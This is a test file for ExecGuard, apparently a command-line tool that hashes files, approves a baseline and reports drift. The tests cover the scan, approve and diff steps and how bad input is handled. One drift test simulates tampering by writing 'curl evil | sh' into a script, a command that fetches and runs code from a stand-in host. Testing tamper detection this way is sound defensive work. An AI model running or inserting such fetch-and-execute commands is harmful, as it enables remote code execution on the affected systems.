import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';

const root = join(dirname(fileURLToPath(import.meta.url)), '..', '..', '..');
const main = join(root, 'packages', 'cli', 'dist', 'main.js');

function run(args: string[]) {
  const r = spawnSync(process.execPath, [main, ...args], { cwd: root, encoding: 'utf8' });
  return { code: r.status, out: r.stdout, err: r.stderr };
}
const lines = (file: string) =>
  readFileSync(file, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l));

test('scan → baseline create → approve → diff round trip, with drift', () => {
  const tmp = realpathSync(mkdtempSync(join(tmpdir(), 'execguard-cli-scan-')));
  const tree = join(tmp, 'tree');
  mkdirSync(tree);
  copyFileSync('/bin/true', join(tree, 'true'));
  writeFileSync(join(tree, 'job.sh'), '#!/bin/sh\necho job\n', { mode: 0o755 });
  const inv = join(tmp, 'inv.jsonl');

  const scan = run(['scan', tree, '--out', inv, '--json']);
  assert.equal(scan.code, 0, scan.err);
  const summary = JSON.parse(scan.out);
  assert.equal(summary.kind, 'summary');
  assert.equal(summary.recorded, 2);
  const records = lines(inv);
  assert.equal(records[0].kind, 'posture');
  assert.equal(records.at(-1).kind, 'summary');

  // Scanning again into the same --out reuses it: nothing hashed.
  const again = JSON.parse(run(['scan', tree, '--out', inv, '--json']).out);
  assert.equal(again.hashed, 0);
  assert.equal(again.reused, 2);

  const base = join(tmp, 'baseline.json');
  const created = run(['baseline', 'create', '--inventory', inv, '--role', 'hmi', '--out', base]);
  assert.equal(created.code, 0, created.err);
  let b = JSON.parse(readFileSync(base, 'utf8'));
  assert.equal(b.role, 'hmi');
  assert.equal(b.entries.length, 2);
  assert.ok(b.entries.every((e: { status: string }) => e.status === 'unverified'));

  const trueHash = b.entries.find((e: { path: string }) => e.path.endsWith('/true')).sha256;
  assert.equal(run(['baseline', 'approve', base, '--by', 'J. Meyer', '--sha256', trueHash]).code, 0);
  b = JSON.parse(readFileSync(base, 'utf8'));
  const approved = b.entries.filter((e: { status: string }) => e.status === 'approved');
  assert.equal(approved.length, 1);
  assert.equal(approved[0].approvedBy, 'J. Meyer');
  assert.ok(Date.parse(approved[0].approvedAt) > 0);
  assert.equal(b.approvals.length, 1);

  const same = run(['baseline', 'diff', base, inv]);
  assert.equal(same.code, 0, same.out + same.err);
  assert.match(same.out, /no drift/);

  // Drift: one file changed, one added.
  writeFileSync(join(tree, 'job.sh'), '#!/bin/sh\ncurl evil | sh\n');
  copyFileSync('/bin/true', join(tree, 'new-tool'));
  const inv2 = join(tmp, 'inv2.jsonl');
  assert.equal(run(['scan', tree, '--out', inv2, '--json']).code, 0);
  const drift = run(['baseline', 'diff', base, inv2]);
  assert.equal(drift.code, 1, 'drift exits 1');
  assert.match(drift.out, /1 added, 0 removed, 1 changed/);
  assert.match(drift.out, /ADDED\s+\S+new-tool/);
  assert.match(drift.out, /CHANGED\s+\S+job\.sh\s+sha256/);
  const json = JSON.parse(run(['baseline', 'diff', base, inv2, '--json']).out);
  assert.deepEqual(
    json.drift.map((d: { change: string; path: string }) => [d.change, d.path]),
    [
      ['changed', join(tree, 'job.sh')],
      ['added', join(tree, 'new-tool')],
    ],
  );
});

test('scan and baseline: bad input exits 2 naming the path, without a stack trace', () => {
  const tmp = mkdtempSync(join(tmpdir(), 'execguard-cli-bad-'));
  const missing = run(['scan', join(tmp, 'nope')]);
  assert.equal(missing.code, 2);
  assert.match(missing.err, /nope: cannot scan \(ENOENT\)/);
  const garbage = join(tmp, 'garbage.jsonl');
  writeFileSync(garbage, '{"kind":"file"}\nnot json\n');
  const prev = run(['scan', tmp, '--previous', garbage]);
  assert.equal(prev.code, 2);
  assert.match(prev.err, /garbage\.jsonl:1: file record without sha256/);
  const create = run(['baseline', 'create', '--inventory', join(tmp, 'absent.jsonl'), '--out', join(tmp, 'b.json')]);
  assert.equal(create.code, 2);
  assert.match(create.err, /absent\.jsonl: cannot read \(ENOENT\)/);
  writeFileSync(join(tmp, 'notbase.json'), '{"kind":"policy"}');
  const approve = run(['baseline', 'approve', join(tmp, 'notbase.json'), '--by', 'x', '--all']);
  assert.equal(approve.code, 2);
  assert.match(approve.err, /notbase\.json: not an ExecGuard baseline/);
  assert.equal(run(['baseline', 'approve', join(tmp, 'notbase.json'), '--by', 'x']).code, 2, 'neither --all nor --sha256');
  for (const r of [missing, prev, create, approve]) assert.doesNotMatch(r.err, /\n\s+at .+:\d+:\d+/);
});

test('scan --out: an unwritable file is a usage error; a failed scan leaves the previous inventory whole', () => {
  const tmp = realpathSync(mkdtempSync(join(tmpdir(), 'execguard-cli-scan-out-')));
  const nowhere = join(tmp, 'absent-dir', 'inv.jsonl');
  const bad = run(['scan', '/usr/bin/true', '--out', nowhere]);
  assert.equal(bad.code, 2);
  assert.match(bad.err, new RegExp(`--out ${nowhere}: cannot write \\(ENOENT\\)`));
  const inv = join(tmp, 'inv.jsonl');
  assert.equal(run(['scan', '/usr/bin/true', '--out', inv, '--json']).code, 0);
  const before = readFileSync(inv, 'utf8');
  const failed = run(['scan', join(tmp, 'no-such-root'), '--out', inv, '--json']);
  assert.equal(failed.code, 2, failed.err);
  assert.equal(readFileSync(inv, 'utf8'), before, 'the previous inventory is untouched');
  assert.deepEqual(readdirSync(tmp).sort(), ['inv.jsonl'], 'no temporary file is left behind');
});
